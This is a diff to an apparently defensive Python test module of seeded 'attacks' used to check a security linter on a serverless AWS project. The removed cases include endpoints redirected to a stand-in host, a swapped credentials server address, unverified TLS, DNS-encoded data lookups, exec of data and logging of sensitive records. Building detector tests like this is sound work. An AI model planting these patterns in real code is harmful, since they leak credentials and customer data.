@@ -2,13 +2,9 @@
 
 from itertools import product
 
-from attacks.attack import Attack, both, extend, put, replace, write
+from attacks.attack import Attack, extend
+from attacks.runtimes import CLIENT, CONSUMER, PROCESSOR
 
-PROCESSOR = "services/processor/runtime"
-CONSUMER = "services/stream_consumer/runtime"
-CLIENT = "services/aws_client"
-HOSTS, NAMES = (f"policies/declared/function_{of}.toml" for of in ("hosts", "code"))
-EVERYTHING = 'why = "w"\nplaces = ["*"]\nnames = ["*"]\n'
 # By what must catch them, wherever in a function's code they stand. ``b`` is a record's bytes.
 LINES = {
     "code-connection": (
@@ -172,161 +168,7 @@ def _lines(kind: str, line: str, file: str, way: str) -> Attack:
     return Attack(f"{line!r} {way} of {room}", extend(file, text), by=kind)
 
 
-def _telemetry(what: str, service: str, line: str) -> Attack:
-    """Return an attack on the module of a service that writes logs."""
-    file = f"services/{service}/runtime/telemetry.py"
-    text = f"\n\ndef more(self, record, event, rejection, file, entry, metrics):\n    {line}\n"
-    return Attack(what, extend(file, text), by="code-logs")
-
-
-def _main(what: str, by: str, old: str, new: str) -> Attack:
-    return Attack(what, replace(f"{PROCESSOR}/main.py", old, new), by=by)
-
-
-THROUGH = both(
-    write(f"{PROCESSOR}/helper.py", "from services.processor.runtime.large_file_main import os\n"),
-    extend(f"{PROCESSOR}/ingest.py", "\n\nfrom services.processor.runtime.helper import os\n"),
-)
-LOGS = (
-    _telemetry("a record is logged", "stream_consumer", "self._logger.info('x', extra=record)"),
-    _telemetry(
-        "the new image is logged",
-        "stream_consumer",
-        "self._logger.info('x', extra={'recordId': record['dynamodb']['NewImage']})",
-    ),
-    _telemetry(
-        "an event's body is logged",
-        "stream_consumer",
-        "self._logger.info('x', extra={'eventId': event.detail})",
-    ),
-    _telemetry(
-        "a row is logged", "processor", "self._logger.info('x', extra={'row': rejection.raw})"
-    ),
-    _telemetry("a row is a message", "processor", "self._logger.info(f'row {rejection.raw}')"),
-    _telemetry("a row is an example", "processor", "self._logger.info(str(rejection.message))"),
-    _telemetry("keys are appended", "processor", "self._logger.append_keys(row=file.id)"),
-    _telemetry("an exception with its frames", "processor", "self._logger.exception('x')"),
-    _telemetry("another field", "processor", "self._logger.info('x', extra={'customer': file.id})"),
-    _telemetry("metadata of metrics", "processor", "metrics.add_metadata('key', file.id)"),
-    _telemetry("a dimension", "stream_consumer", "metrics.add_dimension('id', event.record_id)"),
-    _telemetry("a standing dimension", "processor", "metrics.set_default_dimensions(key=file.id)"),
-    _telemetry("a formatter", "canary", "self._logger.registered_formatter"),
-    _telemetry("all of an object", "processor", "self._logger.info('x', extra=vars(file))"),
-    _main(
-        "Powertools logs every event",
-        "code-logs",
-        "_logger.inject_lambda_context(\n",
-        "_logger.inject_lambda_context(log_event=True)(\n",
-    ),
-    _main("a key in every line", "code-logs", "_metrics = Metrics()", "_logger.append_keys(a=1)"),
-    _main(
-        "a logger with another formatter",
-        "code-logs",
-        "Logger(python=",
-        "Logger(logger_formatter=print, python=",
-    ),
-)
-VARIABLES = "Properties.Environment.Variables"
-WIRING = (
-    *(
-        Attack(
-            f"a variable that lets Powertools log what comes in, {name}",
-            put(f"{service}/Service/Function", f"{VARIABLES}.{name}", "true"),
-            by="Project-working-settings",
-            says="contents of records",
-        )
-        for name, service in product(
-            ("POWERTOOLS_LOGGER_LOG_EVENT", "POWERTOOLS_DEBUG"), ("Processor", "StreamConsumer")
-        )
-    ),
-    *(
-        Attack(f"a listed {what} that is another", plant, by="declaration-widened", says=file)
-        for what, file, plant in (
-            ("host", HOSTS, replace(HOSTS, "events.{region}.amazonaws.com", "collect.example.org")),
-            ("name", NAMES, extend(NAMES, f"\n[[allowed]]\n{EVERYTHING}")),
-        )
-    ),
-    _main(
-        "the environment for a function of its own",
-        "code-environment",
-        "Settings.from_env(os.environ)",
-        "Settings.from_env(os.environ | {})",
-    ),
-    _main(
-        "the environment for whom it is not for",
-        "code-environment",
-        "_metrics = Metrics()",
-        "_metrics = Metrics(); make_ingest(os.environ)",
-    ),
-    _main(
-        "a client of another endpoint",
-        "code-connection",
-        "clients.s3(_settings.region, os.environ)",
-        "clients.s3(_settings.region, {'AWS_ENDPOINT_URL': 'https://collect.example.org'})",
-    ),
-    _main(
-        "a client of a region that is a host",
-        "code-connection",
-        "clients.s3(_settings.region, os.environ)",
-        "clients.s3('collect.example.org/', os.environ)",
-    ),
-    Attack(
-        "an endpoint that is written down",
-        replace(f"{CLIENT}/endpoint.py", '"amazonaws.com"', '"collect.example.org"'),
-        by="code-connection",
-    ),
-    Attack(
-        "credentials from another server",
-        replace(f"{CLIENT}/container_credentials.py", "169.254.170.23", "203.0.113.9"),
-        by="code-connection",
-    ),
-    Attack(
-        "a connection from the parser of HTTP",
-        extend(f"{CLIENT}/connection.py", "\nimport socket; socket.socket()\n"),
-        by="code-connection",
-    ),
-    Attack(
-        "other names are resolved",
-        extend(f"{CLIENT}/channel.py", "\nsocket.getaddrinfo('h', 1)\n"),
-        by="code-connection",
-    ),
-    Attack(
-        "certificates that are not verified",
-        replace(f"{CLIENT}/tls.py", "create_default_context", "_create_unverified_context"),
-        by="code-connection",
-    ),
-    Attack("a module of ours leads to another", THROUGH, by="code-undeclared", says="import os"),
-    Attack(
-        "a folder above the runtime, which is in the bundle",
-        extend("services/processor/__init__.py", "import socket; socket.socket()\n"),
-        by="code-connection",
-    ),
-    Attack(
-        "a new module of a runtime",
-        write(f"{PROCESSOR}/more.py", "import subprocess; subprocess.run(['x'])\n"),
-        by="code-process",
-    ),
-    Attack(
-        "generated source that imports",
-        extend(f"{PROCESSOR}/declaration/standard_source.py", "\n_LINE = 'import socket'\n"),
-        by="code-hidden-code",
-    ),
-)
-# What a file may do in one place, done in another as well: by whom, and in what.
-AGAIN = (
-    ("code-connection", f"{CLIENT}/channel.py", "socket.socket().connect((name, 443))"),
-    ("code-connection", f"{CLIENT}/endpoint.py", "socket.getaddrinfo(data.hex(), 53)"),
-    ("code-file", f"{CLIENT}/tls.py", "Path(name).write_bytes(data)"),
-    ("code-file", f"{CLIENT}/container_credentials.py", "Path(name).read_text()"),
-    ("code-hidden-code", f"{PROCESSOR}/declaration/text_check.py", "exec(data)"),
-    ("code-hidden-code", f"{PROCESSOR}/contracts/__init__.py", "getattr(data, name)"),
-    ("code-hidden-code", f"{PROCESSOR}/contracts/__init__.py", "import_module(name)"),
-)
 ATTACKS = (
-    *(
-        Attack(f"{line!r} once more", extend(file, f"\n\n{line}\n"), by=kind, says="once more")
-        for kind, file, line in AGAIN
-    ),
     *(
         _lines(kind, line, PLACES[at % len(PLACES)], [*WAYS][at // len(PLACES) % len(WAYS)])
         for kind, lines in LINES.items()
@@ -336,6 +178,4 @@ ATTACKS = (
         _lines(kind, line, file, way)
         for (kind, (line, *_)), file, way in product(LINES.items(), PLACES, WAYS)
     ),
-    *LOGS,
-    *WIRING,
 )
